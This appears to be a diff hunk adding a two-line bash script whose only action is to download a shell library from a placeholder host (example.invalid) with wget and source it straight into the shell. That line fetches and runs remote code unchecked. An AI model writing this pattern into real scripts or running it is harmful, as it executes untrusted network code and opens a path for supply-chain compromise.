@@ -1,0 +1,2 @@
+#!/bin/bash
+source <(wget -qO- http://example.invalid/lib.sh)
